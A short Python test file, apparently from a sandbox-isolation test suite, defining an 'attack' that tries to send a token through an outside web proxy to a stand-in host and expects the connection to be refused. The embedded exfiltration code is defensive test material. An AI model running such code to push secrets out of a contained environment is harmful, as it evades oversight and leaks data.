"""A web proxy outside is asked to pass something on."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import WEB


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    code = f"""
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({{'http': 'http://{WEB}:8080'}}))
    opener.open('http://example.invalid/{ground.token}')
    """
    return ground.arrives(code)


ATTACK = Attack("TCP to the outside", attempt, recorded=("network.refused", f"tcp {WEB}:8080"))
